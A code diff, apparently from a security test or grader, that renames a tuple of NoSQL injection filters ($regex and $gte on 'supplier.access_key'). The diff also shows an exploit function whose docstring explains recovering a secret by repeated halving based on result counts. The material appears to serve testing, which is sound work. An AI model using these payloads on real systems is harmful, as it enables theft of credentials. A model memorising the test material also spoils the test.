@@ -47,14 +47,14 @@ def works(code):
     raise AssertionError("a filter that is not JSON is accepted")
 
 
-ATTACKS = (
+FORMS = (
     '{"supplier.access_key": {"$regex": "^[a-m]"}}',
     '{"$and": [{"supplier.access_key": {"$regex": "^[a-m]"}}]}',
     '{"supplier.access_key": {"$gte": "m"}}',
 )
 
 
-def exploit(code, vary=None, payloads=ATTACKS):
+def exploit(code, vary=None, payloads=FORMS):
     """The number of results says in which half of the alphabet the secret begins. Halving again and again finds all of it."""
 
     def count_with(secret, condition):
